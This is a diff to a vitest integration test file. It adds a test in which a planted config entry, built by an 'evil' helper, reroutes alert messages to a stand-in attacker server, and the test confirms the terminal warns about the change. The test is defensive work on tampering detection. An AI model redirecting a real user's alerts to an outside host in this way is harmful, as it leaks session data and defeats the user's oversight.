@@ -1,5 +1,6 @@
-import { existsSync, readFileSync } from "node:fs";
-import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { dirname } from "node:path";
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
 import { packageRoot } from "../rig/host/package-root.ts";
 import { type RealHost, startRealHost } from "../rig/host/real-host.ts";
 import { attachTui } from "../rig/host/start-tui.ts";
@@ -88,5 +89,20 @@ describe("on the real opencode 1.18 a model alone", () => {
     await host.ended(session);
     await host.decided((line) => line.sessionID === session && line.reason === "mode-none");
     await waitUntil("every change to have one line", () => journal().filter((line) => "change" in line).length === 1);
+  });
+
+  test("whoever else puts another place for alerts into the file: the terminal says so before it counts", async () => {
+    const fresh = await attachTui(host.home, host.server.url); // of an older message only what differs is drawn anew
+    onTestFinished(async () => void (await fresh.end()));
+    await observer.knows(fresh.pid, { view: "home" });
+    mkdirSync(dirname(host.home.beckonConfig), { recursive: true });
+    writeFileSync(host.home.beckonConfig, JSON.stringify(evil(attacker.url)));
+    const session = await host.newSession({ ask: ["bash"] });
+    await host.prompt(session, "[bash echo from afar]");
+    const { requestID } = await host.nextAsk(session);
+    await waitFor("the message", () => attacker.publications[0]);
+    await printedBytes(fresh, "From now on in force");
+    await host.reply(requestID, "reject");
+    await host.ended(session);
   });
 });
